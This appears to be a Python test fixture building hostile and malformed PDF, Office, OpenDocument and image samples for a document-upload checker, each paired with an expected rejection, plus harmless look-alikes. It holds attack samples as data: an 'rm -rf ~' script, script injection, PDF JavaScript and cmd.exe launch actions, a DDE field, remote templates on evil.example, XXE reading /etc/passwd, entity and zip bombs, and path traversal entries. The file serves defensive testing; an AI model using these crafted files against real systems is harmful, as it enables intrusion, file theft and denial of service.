"""Documents that an officer, or somebody worse, may send. Each is made here, and each gets its sentence."""

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image

from news.record.documents import sentences as said

OFFICE = "application/vnd.openxmlformats-officedocument."
PARTS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OPEN = "application/vnd.oasis.opendocument."
SPACES = " ".join(
    f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{long}:1.0"'
    for short, long in {
        "office": "office", "text": "text", "table": "table", "draw": "drawing",
        "meta": "meta", "script": "script", "manifest": "manifest",
    }.items()
)  # fmt: skip
SPACES += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(parts, *, stored=(), compress=zipfile.ZIP_DEFLATED):
    """A zip of `[(name, bytes or text)]`."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", compress) as file:
        for name, content in parts:
            kind = zipfile.ZIP_STORED if name in stored else compress
            file.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, compress_type=kind)
    return data.getvalue()


def relations(*rows):
    """`(type, target)` or `(type, target, "External")`."""
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{RELATION}{kind}" Target="{target}"'
        + (f' TargetMode="{mode[0]}"' if mode else "")
        + "/>"
        for n, (kind, target, *mode) in enumerate(rows)
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


def office(form="docx", extra=(), *, main="", types=(), body="<w:p/>", pages=None, order=None):
    """A small Word, Excel or PowerPoint file; `types` are `(part, content type)` beside the usual ones."""
    part, kind = PARTS[form]
    types = [(part, f"{main or OFFICE + kind}.main+xml"), *types]
    overrides = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in types)
    content = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{overrides}</Types>'
    )
    parts = [
        ("[Content_Types].xml", content),
        ("_rels/.rels", relations(("officeDocument", part))),
        (part, f"<w:document {W}><w:body>{body}</w:body></w:document>"),
        *extra,
    ]
    if pages:
        parts.append(("docProps/app.xml", f"<Properties><Pages>{pages}</Pages><Words>900</Words></Properties>"))
    return zipped(parts)


def slides(number):
    types = [(f"ppt/slides/slide{n}.xml", f"{OFFICE}presentationml.slide+xml") for n in range(number)]
    return office("pptx", [(name, "<sld/>") for name, _ in types], types=types)


def sheets(number):
    types = [(f"xl/worksheets/sheet{n}.xml", f"{OFFICE}spreadsheetml.worksheet+xml") for n in range(number)]
    return office("xlsx", [(name, "<worksheet/>") for name, _ in types], types=types)


def opendocument(kind="text", extra=(), *, body="", manifest="", pages=None, mimetype=""):
    """A small ODT, ODS or ODP."""
    content = f"<office:document-content {SPACES}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    statistic = f'<meta:document-statistic meta:page-count="{pages}"/>' if pages else ""
    return zipped(
        [
            ("mimetype", mimetype or OPEN + kind),
            ("content.xml", content),
            ("styles.xml", f"<office:document-styles {SPACES}/>"),
            (
                "meta.xml",
                f"<office:document-meta {SPACES}><office:meta>{statistic}</office:meta></office:document-meta>",
            ),
            ("META-INF/manifest.xml", f"<manifest:manifest {SPACES}>{manifest}</manifest:manifest>"),
            *extra,
        ],
        stored=["mimetype"],
    )


def pdf(*objects, trailer="/Root 1 0 R", end=b"startxref\n0\n%%EOF\n"):
    """A small PDF of two pages with these objects beside."""
    body = [
        b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj",
        b"2 0 obj <</Kids [3 0 R 4 0 R] /Count 2 /Type /Pages>> endobj",
        *(item if isinstance(item, bytes) else item.encode() for item in objects),
        f"trailer <<{trailer}>>".encode(),
    ]
    return b"%PDF-1.7\n" + b"\n".join(body) + b"\n" + end


def pack(content, head="/Filter /FlateDecode", compressed=True):
    """An object stream as newer PDFs have it."""
    data = zlib.compress(content) if compressed else content
    return b"9 0 obj <</Type /ObjStm /N 1 /First 4 %s>>\nstream\n%s\nendstream endobj" % (head.encode(), data)


def old(*names):
    """What Word 97 and its like wrote: only its first bytes and the names of its parts."""
    return OLD + b"\0" * 504 + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))


def photograph(kind="JPEG", size=(30, 40)):
    data = io.BytesIO()
    Image.new("L", size, 200).save(data, kind)
    return data.getvalue()


def vast_png():
    """A PNG of 90 megapixels in some kB: one line is drawn, the rest is promised."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", 10_000, 9_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_001))
        + chunk(b"IEND", b"")
    )


def overlapping(number=200, size=1_000_000):
    """Many names for the same bytes: 200 MB out of one."""
    data = bytearray(office(extra=[("word/media/a.bin", b"\0" * size)]))
    at = data.rfind(b"PK\x05\x06")
    begins = struct.unpack_from("<L", data, at + 16)[0]
    directory, entry = bytes(data[begins:at]), b""
    for piece in directory.split(b"PK\x01\x02")[1:]:
        if b"media/a.bin" in piece:
            entry = b"PK\x01\x02" + piece
    copies = b"".join(entry.replace(b"a.bin", b"%05d" % n) for n in range(number))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 4 + number, 4 + number, len(directory + copies), begins, 0)
    return bytes(data[:begins]) + directory + copies + end


def locked_zip():
    data = bytearray(office(extra=[("word/media/a.bin", b"secret")]))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + flags] |= 1
    return bytes(data)


def field(*pieces):
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    kinds = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"<w:p>{kinds[0]}{runs}{kinds[1]}{kinds[2]}</w:p>"


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    f"<w:document {W}><w:body>&c;</w:body></w:document>"
)
FOREIGN_FILE = (
    '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><Properties><Pages>&a;</Pages><Words>1</Words></Properties>'
)
PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<L", 64) + b"PE\0\0" + b"\0" * 100
MACRO = [("word/vbaProject.bin", OLD + b"\0" * 100)]


@functools.cache
def cases():
    """`{name: (bytes, sentence)}`."""
    whole = office(pages=3)
    return {
        # What is no document at all
        "nothing.pdf": (b"", said.EMPTY),
        "zeros.pdf": (b"\0" * 5000, said.UNKNOWN),
        "setup.pdf": (PROGRAM, said.PROGRAM),
        "linux.docx": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, said.PROGRAM),
        "script.pdf": (b"#!/bin/sh\nrm -rf ~\n", said.PROGRAM),
        "page.pdf": (b"<!doctype html><script>alert(1)</script>", said.PAGE),
        "drawing.png": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", said.PAGE),
        "plain.svg": (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", said.DRAWING),
        "letter.rtf": (rb"{\rtf1\ansi Hello}", said.RTF),
        "moving.gif": (b"GIF89a" + b"\0" * 40, said.PHOTOGRAPH),
        "phone.heic": (b"\0\0\0\x18ftypheic" + b"\0" * 40, said.PHOTOGRAPH),
        "folder.zip": (zipped([("notes.txt", "x")]), said.FOLDER),
        "folder.rar": (b"Rar!\x1a\x07\x00" + b"\0" * 40, said.FOLDER),
        "text.pdf": (b"Dear colleague,\n" * 30, said.UNKNOWN),
        # PDF
        "cut.pdf": (pdf()[:-30], said.CUT_OFF),
        "behind-a-page.pdf": (b"<html>" + b" " * 1000 + pdf(), said.PAGE),
        "behind-noise.pdf": (b"noise\n" + pdf(), said.BEFORE_PDF),
        "page-inside.pdf": (b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF", said.TWO_FILES),
        "with-a-zip.pdf": (pdf() + zipped([("a.txt", "x")]), said.TWO_FILES),
        "locked.pdf": (pdf("8 0 obj <</Filter /Standard /V 2>> endobj", trailer="/Root 1 0 R /Encrypt 8 0 R"), said.LOCKED_PDF),
        "script-in.pdf": (pdf("5 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj"), said.ACTIVE_PDF),
        "hidden-script.pdf": (pdf("5 0 obj <</S /J#61vaScr#69pt /JS (app.alert(1))>> endobj"), said.ACTIVE_PDF),
        "packed-script.pdf": (pdf(pack(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")), said.ACTIVE_PDF),
        "launch.pdf": (pdf("5 0 obj <</S /Launch /F (cmd.exe)>> endobj"), said.ACTIVE_PDF),
        "form.pdf": (pdf("5 0 obj <</AcroForm <</XFA 6 0 R>>>> endobj"), said.ACTIVE_PDF),
        "carrying.pdf": (pdf("5 0 obj <</Type /EmbeddedFile /Length 2>>\nstream\nMZ\nendstream endobj"), said.CARRYING_PDF),
        "closed.pdf": (pdf(pack(b"5 0 <<>>", head="/Filter /LZWDecode", compressed=False)), said.CLOSED_PDF),
        "broken-pack.pdf": (pdf(pack(b"no deflate", compressed=False)), said.CLOSED_PDF),
        "bomb.pdf": (pdf(pack(b"\0" * 30_000_000)), said.CLOSED_PDF),
        # Scans
        "cut.png": (photograph("PNG")[:50], said.BROKEN_SCAN),
        "cut.jpg": (photograph("JPEG", (400, 400))[:300], said.BROKEN_SCAN),
        "vast.png": (vast_png(), said.BROKEN_SCAN),
        "with-a-zip.jpg": (photograph() + zipped([("a.txt", "x")]), said.TWO_FILES),
        "with-a-page.jpg": (photograph() + b"<script>alert(1)</script>", said.TWO_FILES),
        # Old and locked office files
        "old.doc": (old("WordDocument"), said.OLD_WORD),
        "old.xls": (old("Workbook"), said.OLD_EXCEL),
        "old.ppt": (old("PowerPoint Document"), said.OLD_POWERPOINT),
        "locked.docx": (old("EncryptionInfo", "EncryptedPackage"), said.LOCKED),
        "mail.msg": (old("__properties_version1.0"), said.UNKNOWN),
        "locked-zip.docx": (locked_zip(), said.LOCKED),
        "locked.odt": (
            opendocument(manifest='<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>'),
            said.LOCKED,
        ),
        # Macros and programs
        "macros.docx": (office(extra=MACRO), said.MACROS),
        "renamed-docm.docx": (office(main="application/vnd.ms-word.document.macroEnabled"), said.MACROS),
        "other-name.docx": (
            office(
                extra=[("word/notes.bin", b"x")], types=[("word/notes.bin", "application/vnd.ms-office.vbaProject")]
            ),
            said.MACROS,
        ),
        "old-macros.xlsx": (
            office("xlsx", types=[("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")]),
            said.MACROS,
        ),
        "button.pptx": (
            office("pptx", [("ppt/slides/slide1.xml", '<a action="ppaction://program"/>')]),
            said.MACROS,
        ),
        "basic.odt": (opendocument(extra=[("Basic/Standard/Module1.xml", "<m/>")]), said.MACROS),
        "python.ods": (opendocument("spreadsheet", [("Scripts/python/a.py", "x")]), said.MACROS),
        "listener.odt": (
            opendocument(body='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
            said.MACROS,
        ),
        "object.docx": (office(extra=[("word/embeddings/oleObject1.bin", OLD + b"\0" * 99)]), said.INSIDE),
        "program.docx": (office(extra=[("word/media/image1.png", PROGRAM)]), said.INSIDE),
        "chunk.docx": (
            office(extra=[("word/_rels/document.xml.rels", relations(("aFChunk", "a.html")))]),
            said.INSIDE,
        ),
        "folder-inside.docx": (office(extra=[("word/media/a.png", zipped([("a", "x")]))]), said.INSIDE),
        "macros-inside.pptx": (office("pptx", [("ppt/embeddings/a.xlsx", office(extra=MACRO))]), said.MACROS),
        "nested.pptx": (
            office("pptx", [("ppt/embeddings/a.xlsx", office("xlsx", [("xl/embeddings/b.xlsx", sheets(1))]))]),
            said.INSIDE,
        ),
        "older-version.odt": (opendocument(extra=[("Versions/Version1", opendocument())]), said.INSIDE),
        # What fetches
        "template.docx": (
            office(
                extra=[
                    (
                        "word/_rels/settings.xml.rels",
                        relations(("attachedTemplate", "https://evil.example/a.dotm", "External")),
                    )
                ]
            ),
            said.FETCHES,
        ),
        "template-in-a-network.docx": (
            office(
                extra=[
                    (
                        "word/_rels/settings.xml.rels",
                        relations(("attachedTemplate", "file:///\\\\evil\\a.dotm", "External")),
                    )
                ]
            ),
            said.FETCHES,
        ),
        "dde.docx": (office(body=field("DD", "EAUTO c:\\\\windows\\\\cmd.exe")), said.FETCHES),
        "dde.xlsx": (office("xlsx", [("xl/externalLinks/externalLink1.xml", "<a><ddeLink/></a>")]), said.FETCHES),
        "picture-elsewhere.odt": (
            opendocument(body='<draw:image xlink:href="https://evil.example/a.png"/>'),
            said.FETCHES,
        ),
        # Bombs
        "bomb.docx": (office(extra=[("word/media/a.bin", b"\0" * 210_000_000)]), said.BOMB),
        "overlapping.docx": (overlapping(), said.BOMB),
        "many.docx": (office(extra=[(f"word/{n}", b"") for n in range(5000)]), said.BOMB),
        "deep.docx": (office(body="<a>" * 5000 + "</a>" * 5000), said.TOO_FULL),
        "long.docx": (office(body="<a/>" * 600_000), said.TOO_FULL),
        "huge-part.docx": (office(body=" " * 17_000_000), said.TOO_FULL),
        "laughs.docx": (office(extra=[("word/header1.xml", LAUGHS)]), said.DAMAGED),
        "foreign-file.docx": (office(extra=[("docProps/app.xml", FOREIGN_FILE)]), said.DAMAGED),
        # Broken ones
        "cut.docx": (whole[:-40], said.DAMAGED),
        "half.docx": (whole[: len(whole) // 2], said.DAMAGED),
        "flipped.docx": (_flipped(whole), said.DAMAGED),
        "traversal.docx": (office(extra=[("../../etc/cron.d/a", "x")]), said.DAMAGED),
        "absolute.docx": (office(extra=[("/etc/passwd", "x")]), said.DAMAGED),
        "backslash.docx": (office(extra=[("..\\a.exe", "x")]), said.DAMAGED),
        "twice.docx": (office(extra=[("Word/Document.xml", "<a/>")]), said.TWO_FILES),
        "page-and-zip.docx": (b"PK\x03\x04<html><script>alert(1)</script></html>" + whole, said.TWO_FILES),
        "page-then-zip.docx": (b"<html><script>alert(1)</script></html>" + whole, said.PAGE),
        "zip-then-page.docx": (whole + b"<html><script>alert(1)</script></html>", said.TWO_FILES),
        "both.docx": (office(extra=[("mimetype", OPEN + "text")]), said.TWO_FILES),
        "no-main.docx": (zipped([("[Content_Types].xml", "<Types/>")]), said.DAMAGED),
        "no-xml.docx": (office(extra=[("docProps/app.xml", "<a><b>")]), said.DAMAGED),
        # Other kinds
        "drawing.odg": (opendocument(mimetype=OPEN + "graphics"), said.OTHER_OFFICE),
        "template.dotx": (office(main=f"{OFFICE}wordprocessingml.template"), said.OTHER_OFFICE),
        "book.epub": (zipped([("mimetype", "application/epub+zip")]), said.OTHER_OFFICE),
    }  # fmt: skip


def _flipped(data):
    """One byte of a part is another."""
    at = data.index(b"word/document.xml") + len("word/document.xml") + 5
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


@functools.cache
def harmless():
    """`{name: (bytes, format, pages)}`: what looks like some of the above and is taken."""
    link = relations(("hyperlink", "https://www.interpol.int/", "External"), ("image", "media/a.png"))
    return {
        "plain.pdf": (pdf(), "pdf", 2),
        "links.pdf": (pdf("5 0 obj <</S /URI /URI (https://www.interpol.int/)>> endobj", "6 0 obj <</OpenAction [3 0 R /Fit]>> endobj"), "pdf", 2),
        "packed.pdf": (pdf(pack(b"2 0 <</Type/Pages/Count 7/Kids[]>>")), "pdf", 7),
        "words.pdf": (pdf("5 0 obj (We wrote JavaScript and encrypted it) endobj"), "pdf", 2),
        "letter.docx": (office(pages=3), "docx", 3),
        "own-template.docx": (
            office(extra=[("word/_rels/settings.xml.rels", relations(("attachedTemplate", "file:///C:\\Users\\anna\\letter.dotx", "External")))]), "docx", None,
        ),
        "old-office.docx": (office() + b"\0", "docx", None),
        "no-count.docx": (office(), "docx", None),
        "links.docx": (office(extra=[("word/_rels/document.xml.rels", link), ("word/media/a.png", photograph("PNG"))]), "docx", None),
        "page-number.docx": (office(body=field("PAGE") + "<w:p>DDEAUTO is a word here</w:p>"), "docx", None),
        "agenda.docx.exe": (office(pages=1), "docx", 1),
        "talk.pptx": (slides(12), "pptx", 12),
        "chart.pptx": (office("pptx", [("ppt/embeddings/Sheet1.xlsx", sheets(1))]), "pptx", None),
        "table.xlsx": (sheets(2), "xlsx", 2),
        "letter.odt": (opendocument(pages=4), "odt", 4),
        "chart.odt": (opendocument(extra=[("Object 1/content.xml", "<a/>")], body='<draw:object xlink:href="./Object 1"/>'), "odt", None),
        "table.ods": (opendocument("spreadsheet", body='<table:table/><table:table/><table:table/>'), "ods", 3),
        "talk.odp": (opendocument("presentation", body="<draw:page/><draw:page/>"), "odp", 2),
        "scan.jpg": (photograph(), "jpeg", 1),
        "scan.png": (photograph("PNG"), "png", 1),
    }  # fmt: skip
